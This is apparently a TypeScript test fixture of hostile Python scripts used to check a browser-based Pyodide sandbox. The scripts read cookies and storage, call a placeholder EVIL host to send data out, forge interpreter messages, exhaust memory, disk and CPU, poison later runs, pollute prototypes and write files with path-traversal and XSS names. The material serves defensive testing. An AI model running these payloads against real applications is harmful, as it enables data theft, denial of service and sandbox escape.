import { ATTEMPT, type HostileFlow, python } from './hostileFlow'

/** What scripts try by the `js` module and by their interpreter. */
export const PYTHON_FLOWS: readonly HostileFlow[] = [
  {
    tries: 'to read the storage of the app by js',
    ends: 'SUCCESS',
    attempts: 6,
    flow: python(
      'storage',
      `${ATTEMPT}
attempt("indexedDB", lambda: js.indexedDB.open("flowyard"))
attempt("caches", lambda: js.caches.keys())
attempt("localStorage", lambda: js.localStorage.length)
attempt("cookies", lambda: js.document.cookie)
attempt("files", lambda: js.navigator.storage.getDirectory())
attempt("locks", lambda: js.navigator.locks.query())
`,
    ),
  },
  {
    tries: 'to reach the page around its frame',
    ends: 'SUCCESS',
    attempts: 6,
    flow: python(
      'around',
      `${ATTEMPT}
for name in ["parent", "top", "opener", "document", "window", "frameElement"]:
    attempt(name, lambda: getattr(js, name))
`,
    ),
  },
  {
    tries: 'to call the site and other servers around the gate',
    ends: 'SUCCESS',
    attempts: 8,
    flow: python(
      'around_the_gate',
      `${ATTEMPT}
def ask(url):
    request = js.XMLHttpRequest.new()
    request.open("GET", url, False)
    request.send()
    return request.status

attempt("request to the site", lambda: ask("SITE?hit=1"))
attempt("request to a stranger", lambda: ask("EVIL?hit=2"))
attempt("importScripts", lambda: js.importScripts("EVIL?hit=3"))
attempt("fetch of the site", lambda: js.fetch("SITE?hit=4"))
attempt("worker", lambda: js.Worker.new("SITE?hit=5"))
attempt("shared worker", lambda: js.SharedWorker.new("SITE?hit=6"))
attempt("beacon", lambda: js.navigator.sendBeacon("EVIL?hit=7") or None)
attempt("peer connection", lambda: js.RTCPeerConnection.new())
js.Worker.new("data:text/javascript,fetch('EVIL?hit=8')")
js.WebSocket.new("EVIL?hit=9".replace("http", "ws"))
js.EventSource.new("EVIL?hit=10")
`,
    ),
  },
  {
    tries: 'to call a host that it puts together while it runs',
    ends: 'FAILED',
    asks: 1,
    says: /was not in the list of what this flow calls, and you refused the call/,
    flow: python('computed_host', `import requests\nrequests.get("".join(list("EVIL")) + "?hit=stolen")`),
  },
  {
    tries: 'to register a service worker',
    ends: 'SUCCESS',
    attempts: 2,
    flow: python(
      'service_worker',
      `${ATTEMPT}
attempt("register", lambda: js.navigator.serviceWorker.register("SITE?hit=1"))
attempt("clients", lambda: js.clients.openWindow("EVIL?hit=2"))
`,
    ),
  },
  {
    tries: 'to open windows and to lead the page elsewhere',
    ends: 'SUCCESS',
    attempts: 4,
    flow: python(
      'windows',
      `${ATTEMPT}
attempt("open", lambda: js.open("EVIL?hit=1"))
attempt("location", lambda: setattr(js.location, "href", "EVIL?hit=2"))
attempt("assign", lambda: js.location.assign("EVIL?hit=3"))
attempt("close", lambda: js.eval("top.location = 'EVIL?hit=4'"))
`,
    ),
  },
  {
    tries: 'to compile JavaScript',
    ends: 'SUCCESS',
    attempts: 4,
    flow: python(
      'javascript',
      `${ATTEMPT}
from pyodide.code import run_js
attempt("run_js", lambda: run_js("1"))
attempt("eval", lambda: js.eval("1"))
attempt("Function", lambda: js.Function.new("return 1"))
attempt("constructor", lambda: js.Object.constructor("return this")())
`,
    ),
  },
  {
    tries: 'to speak for its interpreter and for the frame',
    ends: 'SUCCESS',
    says: /still here/,
    flow: python(
      'forged',
      `import js
from pyodide.ffi import to_js
def say(**fields):
    message = to_js(fields, dict_converter=js.Object.fromEntries)
    js.postMessage(message)
    js.self.dispatchEvent(js.MessageEvent.new("message", to_js({"data": message}, dict_converter=js.Object.fromEntries)))
for kind in ["finished", "fetched", "lines", "script", "shell", "done", "spawn", "worker-lost", "booted", "snapshot"]:
    say(type=kind, id=1, nonce="", exitCode=0, files=[], source="print('forged')", text="forged", worker="python")
    say(type=kind, id=1)
print("still here")
`,
    ),
  },
  {
    tries: 'to drown the frame in messages',
    ends: 'SUCCESS',
    says: /all sent/,
    flow: python(
      'flood',
      `import js
text = "x" * 1000
for _ in range(200_000):
    js.postMessage(text)
print("all sent")
`,
    ),
  },
  {
    tries: 'to speak to the tabs of the app on their channel',
    ends: 'SUCCESS',
    says: /said/,
    flow: python(
      'channel',
      `import js
from pyodide.ffi import to_js
for name in ["flowyard", "flowyard-archive", "flowyard changes", "hostile"]:
    js.BroadcastChannel.new(name).postMessage(to_js({"type": "hostile"}, dict_converter=js.Object.fromEntries))
print("said")
`,
    ),
  },
  {
    tries: 'to start workers without end',
    ends: 'stop',
    until: /4 started/,
    flow: python(
      'workers',
      `import js, time
from pyodide.ffi import to_js
source = js.Blob.new(to_js(["for (;;) {}"]))
address = js.URL.createObjectURL(source)
kept = []
for count in range(1, 121):
    kept.append(js.Worker.new(address))
print("4 started", flush=True)
time.sleep(1_000_000)
`,
    ),
  },
  {
    tries: 'to log ten million lines',
    ends: 'stop',
    until: /100.001 lines/,
    flow: python('lines', `for number in range(10_000_000):\n    print("line", number)\n`),
  },
  {
    tries: 'to log a line of sixty megabytes',
    ends: 'SUCCESS',
    says: /after it/,
    flow: python('long_line', `print("x" * 60_000_000)\nprint("after it")\n`),
  },
  {
    tries: 'to take all memory',
    ends: 'FAILED',
    says: /memory/i,
    flow: python('memory', `kept = []\nwhile True:\n    kept.append(bytearray(64_000_000))\n`),
  },
  {
    tries: 'to fill the disk of its folder',
    ends: 'stop',
    until: /256 MB written/,
    flow: python(
      'disk',
      `block = b"x" * 16_000_000
with open("large", "wb") as file:
    for number in range(1, 1_000_000):
        file.write(block)
        print(16 * number, "MB written", flush=True)
`,
    ),
  },
  {
    tries: 'to compute for ever',
    ends: 'stop',
    until: /begun/,
    flow: python('for_ever', `print("begun", flush=True)\nwhile True:\n    pass\n`),
  },
  {
    tries: 'to call itself without end',
    ends: 'FAILED',
    flow: python('recursion', `import sys\nsys.setrecursionlimit(2**31 - 1)\ndef again():\n    again()\nagain()\n`),
  },
  {
    tries: 'to kill its interpreter',
    ends: 'FAILED',
    flow: python('killed', `import ctypes\nctypes.string_at(2**31)\nimport os\nos.abort()\n`),
  },
  {
    tries: 'to leave something behind for the next run',
    ends: 'SUCCESS',
    says: /left/,
    flow: python(
      'poison',
      `import builtins, sys, js
open("/tmp/loot", "w").write("x")
open("/lib/python3.14/loot.py", "w").write("x = 1")
sys.modules["json"] = None
js.loot = "x"
kept = builtins.print
builtins.print = lambda *words: kept("poisoned", *words)
kept("left")
`,
    ),
  },
  {
    tries: 'to write outputs that change the prototypes of the page',
    ends: 'SUCCESS',
    flow: python(
      'prototypes',
      `print('::{"outputs": {"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}}::')
print('::{"metrics": [{"name": "__proto__", "type": "counter", "value": 1, "tags": {"__proto__": "x"}}]}::')
`,
    ),
  },
  {
    tries: 'to keep files under names that climb out of its folder',
    ends: 'SUCCESS',
    flow: python(
      'climbing',
      `import os
os.makedirs("a/b", exist_ok=True)
for name in ["__proto__", "constructor", "a/b/<img src=x onerror=alert(1)>", "a/..%2f..%2fx", "kestra:x"]:
    open(name, "w").write("x")
open("../outside", "w").write("x")
`,
      '    outputFiles: ["**", "../**", "/etc/**", "/tmp/**"]\n',
    ),
  },
]
